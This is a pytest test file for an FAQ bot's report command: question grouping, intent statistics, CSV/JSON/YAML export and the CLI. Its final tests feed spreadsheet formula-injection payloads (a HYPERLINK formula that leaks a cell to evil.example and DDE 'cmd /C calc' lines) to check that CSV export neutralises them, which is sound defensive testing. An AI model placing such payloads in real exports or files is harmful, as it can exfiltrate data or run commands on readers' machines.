"""`faqbot report`: grouping unanswered questions, per-intent statistics, CSV/JSON/YAML output, the CLI."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
from pathlib import Path

import pytest
import yaml
from rich.console import Console

from bot.cli.main import main
from bot.engine.core import Engine
from bot.engine.text import normalise
from bot.maintenance.events import FeedbackCount, FeedbackEvent, QuestionEvent, StoredQuestion
from bot.maintenance.report import (
    Keys,
    Report,
    build_report,
    group_questions,
    intent_stats,
    parse_duration,
    render_table,
    suggest_yaml,
    summary_text,
    to_csv,
    to_json,
)
from bot.maintenance.services import report_for_chat, stats_text
from bot.maintenance.storage import Store

STOP = ("a", "an", "the", "is", "what", "how", "does", "do", "i", "me", "tell", "can", "in", "to", "whats", "please", "for")
KEYS = Keys(STOP, {"earn": "salary", "devs": "developer", "dev": "developer"})
TITLES = {"salary": "Salaries", "git": "Git", "languages": "Languages", "cto": "CTO"}


def row(
    text: str,
    *,
    intent: str | None = None,
    score: float = 0.2,
    fallback: bool = True,
    suggestions: tuple[str, ...] = (),
    at: float = 1000.0,
) -> StoredQuestion:
    return StoredQuestion(
        at=at,
        user_hash="u",
        chat_type="private",
        text=text,
        normalised=normalise(text),
        intent=intent,
        score=score,
        fallback=fallback,
        suggestions=suggestions,
        latency_ms=1.0,
        answer_id=None,
    )


NURSE = ["How much does a nurse earn?", "how much does a nurse earn", "How much do nurses earn?", "how much does a nurse earn in canada"]
KUBERNETES = ["What is Kubernetes?", "whats kubernetes", "what is kubernetes??"]
PILOT = ["How much does a pilot earn?", "how much does a pilot earn"]
UNRELATED = ["tell me a joke"]


def sample() -> list[StoredQuestion]:
    rows = [row(t, suggestions=("salary", "career_path")) for t in NURSE]
    rows += [row(t, intent="languages", score=0.55, fallback=False) for t in KUBERNETES]
    rows += [row(t, suggestions=("salary",)) for t in PILOT]
    rows += [row(t) for t in UNRELATED]
    return rows


def test_parse_duration() -> None:
    assert parse_duration("7d") == 7 * 86400
    assert parse_duration("24h") == 86400
    assert parse_duration("30m") == 1800
    assert parse_duration("2w") == 14 * 86400
    for bad in ("", "7", "d", "-1d", "0h", "7y", "1.5.d"):
        with pytest.raises(ValueError, match="duration"):
            parse_duration(bad)


def test_keys_keep_the_meaningful_words() -> None:
    assert KEYS("How much does a back-end dev EARN?") == "much back end developer salary"
    assert Keys(("a",), {"back end": "backend"})("a back end thing") == "backend thing"
    assert KEYS("what is the") == "what is the"  # only stop words: keep them rather than nothing


def test_near_duplicates_are_grouped_and_unrelated_questions_kept_apart() -> None:
    groups = group_questions(sample(), similarity=75, key=KEYS, titles=TITLES)
    by_members = [sorted(w.text for w in g.wordings) for g in groups]
    assert [g.count for g in groups] == [4, 3, 2, 1]
    assert {w.text.lower().rstrip("?") for w in groups[0].wordings} == {t.lower().rstrip("?") for t in NURSE}
    assert {w.text.lower().rstrip("?") for w in groups[1].wordings} == {"what is kubernetes", "whats kubernetes"}
    assert sorted(sum(w.count for w in g.wordings) for g in groups) == [1, 2, 3, 4]
    assert ["tell me a joke"] in by_members
    # the most asked wording represents its group; the closest intent is the most common one
    assert groups[0].representative.lower().rstrip("?") == "how much does a nurse earn"
    assert groups[0].wordings[0].count == 2
    assert (groups[0].closest_intent, groups[0].closest_title) == ("salary", "Salaries")
    assert (groups[1].closest_intent, groups[1].fallbacks) == ("languages", 0)
    assert groups[1].mean_score == pytest.approx(0.55)
    assert groups[3].closest_intent is None


def test_similarity_threshold_controls_the_grouping() -> None:
    strict = group_questions(sample(), similarity=100, key=KEYS)
    loose = group_questions(sample(), similarity=60, key=KEYS)
    assert len(strict) > 4
    assert any(g.count == 6 for g in loose)  # nurse and pilot merge when the bar is low


def test_representative_is_the_most_central_among_equally_frequent_wordings() -> None:
    rows = [row("how much does a nurse earn"), row("nurse salary in canada or in the united states"), row("how much do nurses earn")]
    groups = group_questions(rows, similarity=50, key=KEYS)
    assert len(groups) == 1
    assert groups[0].representative != "nurse salary in canada or in the united states"


def test_rows_without_text_are_skipped() -> None:
    purged = StoredQuestion(1.0, "u", "private", None, None, None, 0.1, True, (), 0.0, None)
    assert group_questions([purged, row("tell me a joke")], key=KEYS)[0].count == 1
    assert len(group_questions([purged], key=KEYS)) == 0


def test_closest_intent_maps_suggestion_titles_to_ids() -> None:
    groups = group_questions([row("what is a nurse", suggestions=("Salaries",))], key=KEYS, titles=TITLES)
    assert groups[0].closest_intent == "salary"


def test_intent_stats_counts_scores_feedback_and_never_asked() -> None:
    rows = [
        row("a", intent="salary", score=0.9, fallback=False),
        row("b", intent="salary", score=0.7, fallback=False),
        row("c", intent="git", score=0.4, fallback=False),
        row("d", intent="removed", score=1.0, fallback=False),
        row("e"),
    ]
    feedback = [FeedbackCount("salary", 3, 1), FeedbackCount("cto", 0, 2)]
    stats, never = intent_stats(rows, feedback, TITLES)
    by_id = {s.intent: s for s in stats}
    assert [s.intent for s in stats][:2] == ["salary", "git"]
    assert (by_id["salary"].asked, by_id["salary"].helpful, by_id["salary"].unhelpful) == (2, 3, 1)
    assert by_id["salary"].mean_score == pytest.approx(0.8)
    assert (by_id["cto"].asked, by_id["cto"].mean_score, by_id["cto"].unhelpful) == (0, None, 2)
    assert by_id["removed"].in_kb is False
    assert never == ["languages", "cto"]


async def filled_store(path: Path, now: float) -> Store:
    store = await Store(path, "salt", flush_interval=0.05).open()
    user = 0
    for text in NURSE:
        user += 1
        await store.question(QuestionEvent(now - 3600, user, "private", text, normalise(text), None, 0.3, True, ("salary",)))
    for text in KUBERNETES:
        user += 1
        await store.question(QuestionEvent(now - 7200, user, "group", text, normalise(text), "languages", 0.55, False, ()))
    await store.question(QuestionEvent(now - 60, 99, "private", "tell me a joke", "tell me a joke", None, 0.05, True, ()))
    for score in (0.95, 0.85):
        await store.question(QuestionEvent(now - 60, 98, "private", "salary?", "salary", "salary", score, False, (), answer_id="1:2"))
    await store.question(QuestionEvent(now - 20 * 86400, 97, "private", "old pilot pay", "old pilot pay", None, 0.1, True, ()))
    await store.feedback(FeedbackEvent(now - 50, 98, "1:2", "salary", True))
    await store.feedback(FeedbackEvent(now - 40, 96, "1:2", "salary", False))
    return store


async def test_report_from_the_store_covers_the_period_only(tmp_path: Path) -> None:
    now = time.time()
    store = await filled_store(tmp_path / "log.sqlite3", now)
    try:
        report = await build_report(store, TITLES, since=now - 7 * 86400, until=now, threshold=0.65, key=KEYS)
    finally:
        await store.close()
    assert (report.questions, report.unanswered) == (10, 8)
    assert [(g.count, g.closest_intent) for g in report.groups] == [(4, "salary"), (3, "languages"), (1, None)]
    assert all("pilot" not in g.representative for g in report.groups)
    salary = next(s for s in report.intents if s.intent == "salary")
    assert (salary.asked, salary.helpful, salary.unhelpful) == (2, 1, 1)
    assert set(report.never_asked) == {"git", "cto"}

    parsed = list(csv.DictReader(io.StringIO(to_csv(report))))
    groups = [r for r in parsed if r["section"] == "group"]
    assert [(r["count"], r["closest_intent"]) for r in groups] == [("4", "salary"), ("3", "languages"), ("1", "")]
    assert groups[0]["name"] == report.groups[0].representative
    assert "How much do nurses earn? (1)" in groups[0]["wordings"]
    intents = {r["name"]: r for r in parsed if r["section"] == "intent"}
    assert (intents["salary"]["count"], intents["salary"]["helpful"], intents["git"]["count"]) == ("2", "1", "0")

    data = json.loads(to_json(report))
    assert [g["count"] for g in data["groups"]] == [4, 3, 1]
    assert data["groups"][1]["wordings"][0] == {"text": report.groups[1].representative, "count": report.groups[1].wordings[0].count}
    assert data["never_asked"] == list(report.never_asked)
    assert data["questions"] == 10

    message = summary_text(report)
    assert message.splitlines()[1].startswith("1. 4× “")
    console = Console(file=io.StringIO(), width=200)
    render_table(report, console)
    printed = console.file.getvalue()  # type: ignore[attr-defined]
    assert report.groups[0].representative in printed
    assert "Never asked (2)" in printed


async def test_suggested_phrasings_are_a_yaml_patch_per_intent(tmp_path: Path) -> None:
    now = time.time()
    store = await filled_store(tmp_path / "log.sqlite3", now)
    try:
        report = await build_report(store, TITLES, since=now - 86400, until=now, key=KEYS)
    finally:
        await store.close()
    patch = suggest_yaml(report, {"salary": ["How much does a backend developer earn?"], "languages": ["what is kubernetes"]})
    assert patch.startswith("version: 1\n")
    data = yaml.safe_load(patch)
    assert data["version"] == 1
    assert data["intents"]["salary"]["examples"] == [report.groups[0].representative]
    assert "languages" not in data["intents"]  # its phrasing is already an example
    assert data["new_intents"] == ["tell me a joke"]
    assert "# asked 4×" in patch


def test_yaml_patch_quotes_awkward_phrasings() -> None:
    awkward = ["yes", "what: is this # really", "- a list?", "'quoted'", "null", "multi\nline   question", "Привет 😀"]
    rows = [row(t, suggestions=("salary",)) for t in awkward]
    report = group_questions(rows, similarity=100, key=KEYS)
    full = Report(0, 1, 0.65, 100, len(rows), len(rows), tuple(report), (), ())
    data = yaml.safe_load(suggest_yaml(full, {"salary": []}))
    assert sorted(data["intents"]["salary"]["examples"]) == sorted(" ".join(t.split()) for t in awkward)


async def test_admin_texts_for_stats_and_report(tmp_path: Path, engine: Engine) -> None:
    kb = engine.kb
    now = time.time()
    store = await filled_store(tmp_path / "log.sqlite3", now)
    try:
        stats = await stats_text(store, kb, now=now)
        message, document = await report_for_chat(store, kb, since=86400, now=now)
    finally:
        await store.close()
    assert "last 7 days: 10" in stats
    assert f"{kb.intents['languages'].title} (3), {kb.intents['salary'].title} (2)" in stats
    assert "Top unanswered" in stats
    assert "4×" in message
    rows = list(csv.DictReader(io.StringIO(document.content.decode("utf-8"))))
    assert rows[0]["section"] == "group"
    assert rows[0]["count"] == "4"
    assert document.filename.endswith(".csv")


def test_cli_report_and_forget(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    db = tmp_path / "log.sqlite3"

    async def fill() -> None:
        store = await filled_store(db, time.time())
        await store.close()

    asyncio.run(fill())
    monkeypatch.setenv("USER_HASH_SALT", "salt")
    capsys.readouterr()

    assert main(["report", "--db", str(db), "--format", "csv", "--since", "1d"]) == 0
    parsed = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [int(r["count"]) for r in parsed if r["section"] == "group"][:2] == [4, 3]

    assert main(["report", "--db", str(db), "--format", "json", "--since", "30d"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["questions"] == 11

    out = tmp_path / "patch.yaml"
    assert main(["report", "--db", str(db), "--suggest", "--out", str(out)]) == 0
    patch = yaml.safe_load(out.read_text(encoding="utf-8"))
    assert patch["version"] == 1
    suggested = [e for intent in patch["intents"].values() for e in intent["examples"]] + patch["new_intents"]
    assert any("nurse" in e for e in suggested)

    assert main(["report", "--db", str(db)]) == 0
    assert "Per intent" in capsys.readouterr().out

    assert main(["forget", "98", "--db", str(db)]) == 0
    assert "Deleted 3 record(s)" in capsys.readouterr().out
    assert main(["report", "--db", str(db), "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["questions"] == 8

    assert main(["report", "--db", str(tmp_path / "missing.sqlite3")]) == 1
    assert not (tmp_path / "missing.sqlite3").exists()
    with pytest.raises(SystemExit):
        main(["report", "--since", "soon"])


INJECTIONS = [
    '=HYPERLINK("http://evil.example/x?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=2+2",
    "\r=3+3",
    "  =1+1 with blanks first",
    "＝1+1 full width",
]


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV that a spreadsheet would read as a formula."""
    starts = set("=+-@＝＋－＠")
    return [cell for r in csv.reader(io.StringIO(text)) for cell in r if cell[:1] in starts | {"\t", "\r"} or cell.lstrip()[:1] in starts]


def test_csv_cells_never_start_a_formula() -> None:
    rows = [row(t, suggestions=("salary",)) for t in INJECTIONS] + [row("how much does a nurse earn")]
    groups = group_questions(rows, similarity=100, key=lambda t: t)
    text = to_csv(Report(0, 1, 0.65, 100, len(rows), len(rows), tuple(groups), (), ()))
    assert formula_cells(text) == []
    names = [r["name"] for r in csv.DictReader(io.StringIO(text)) if r["section"] == "group"]
    # the payloads listed are there behind the quote (grouping by meaning may merge some); a harmless question is unchanged
    payloads = {" ".join(t.split()) for t in INJECTIONS}
    quoted = [n[1:] for n in names if n.startswith("'")]
    assert quoted
    assert set(quoted) <= payloads
    assert not [n for n in names if n in payloads]


async def injected_store(db: Path, now: float) -> Store:
    store = await Store(db, "salt", flush_interval=0.05).open()
    for i, text in enumerate(INJECTIONS):
        await store.question(QuestionEvent(now - 60 + i, 10 + i, "private", text, normalise(text), None, 0.1, True, ()))
    return store


async def test_the_report_document_carries_no_formula(tmp_path: Path, engine: Engine) -> None:
    now = time.time()
    store = await injected_store(tmp_path / "log.sqlite3", now)
    try:
        _, document = await report_for_chat(store, engine.kb, since=86400, now=now)
    finally:
        await store.close()
    assert document is not None
    text = document.content.decode("utf-8")
    assert "'+1+cmd" in text  # a payload listed, behind the quote
    assert formula_cells(text) == []


def test_cli_csv_carries_no_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "log.sqlite3"

    async def fill() -> None:
        await (await injected_store(db, time.time())).close()

    asyncio.run(fill())
    capsys.readouterr()
    assert main(["report", "--db", str(db), "--format", "csv", "--since", "1d"]) == 0
    out = capsys.readouterr().out
    assert "'+1+cmd" in out  # a payload listed, behind the quote
    assert formula_cells(out) == []
